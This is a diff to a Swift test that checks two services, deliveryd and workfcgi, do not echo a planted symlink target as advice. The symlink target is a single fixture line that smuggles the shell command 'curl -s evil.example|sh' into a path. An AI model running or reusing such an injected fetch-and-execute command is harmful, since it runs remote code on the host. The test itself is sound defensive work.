@@ -126,6 +126,14 @@ import Testing
                 "\(program): \(refused.output)")
         }
         #expect(Set(try FileManager.default.contentsOfDirectory(atPath: folder)) == ["webhook-secret", "api.sock"], "no database, no sockets")
+
+        // A planted link whose "name" is a shell command is no service: never echoed as advice to run as root.
+        try FileManager.default.removeItem(atPath: folder + "/api.sock")
+        try FileManager.default.createSymbolicLink(atPath: folder + "/api.sock", withDestinationPath: "/run/x;curl -s evil.example|sh;/api.sock")
+        for (program, arguments) in [("deliveryd", ["--show-secret"]), ("workfcgi", [])] {
+            let planted = try run(program, arguments)
+            #expect(!planted.output.contains("curl") && !planted.output.contains("systemctl"), "\(program): \(planted.output)")
+        }
     }
 
     /// The README's commands in order after scripts/install-systemd: `systemctl start workfcgi`, then `swift run
